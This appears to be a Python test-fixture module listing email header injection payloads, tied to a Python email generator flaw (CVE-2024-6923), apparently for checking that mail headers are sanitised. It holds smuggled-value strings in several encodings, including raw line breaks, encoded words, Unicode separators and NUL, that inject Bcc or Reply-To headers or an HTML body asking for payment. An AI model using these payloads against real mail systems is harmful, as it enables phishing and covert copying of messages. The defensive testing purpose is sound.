"""Header injection payloads typed into every value that reaches a mail header.

On Python 3.11.7 the `email` generator decodes an RFC 2047 encoded word and
writes its line breaks raw (CVE-2024-6923), so each of these, put unchanged in
a Subject, would add a `Bcc:` or `Reply-To:` header or a new body.
"""

from __future__ import annotations

import base64


def _b(text: str) -> str:
    """Return `text` as one base64 encoded word."""
    return f"=?UTF-8?B?{base64.b64encode(text.encode()).decode()}?="


#: The issue's payload: a quoted-printable encoded word hiding CR LF and a Bcc.
QP_BCC = "=?UTF-8?Q?Hei=0D=0ABcc:_x@example.org?="

#: Payloads a database stores as they are (PostgreSQL refuses NUL in text).
STORABLE_PAYLOADS: dict[str, str] = {
    "qp-bcc": QP_BCC,
    "b64-reply-to": _b("Hei\r\nReply-To: evil@example.org"),
    "b64-body": _b("Hei\r\nContent-Type: text/html\r\n\r\n<p>Betal her</p>"),
    "inside-a-word": "Hei=?utf-8?q?=0A?=Bcc:_x@example.org",
    "lower-case-qp-lf": "=?utf-8?q?Hei=0AReply-To:_evil@example.org?=",
    "raw-crlf": "Hei\r\nBcc: x@example.org",
    "raw-lf": "Hei\nReply-To: evil@example.org",
    "raw-cr": "Hei\rBcc: x@example.org",
    "line-separator": "Hei\u2028Bcc: x@example.org",
    "paragraph-separator": "Hei\u2029Bcc: x@example.org",
    "next-line": "Hei\x85Bcc: x@example.org",
    "long": ((QP_BCC + " Reply-To: evil@example.org ") * 4)[:200],
}

#: Every payload, NUL included, for values that are never stored.
PAYLOADS: dict[str, str] = {
    **STORABLE_PAYLOADS,
    "nul": "Hei\x00Bcc: x@example.org",
    "very-long": " ".join([QP_BCC] * 200),
}
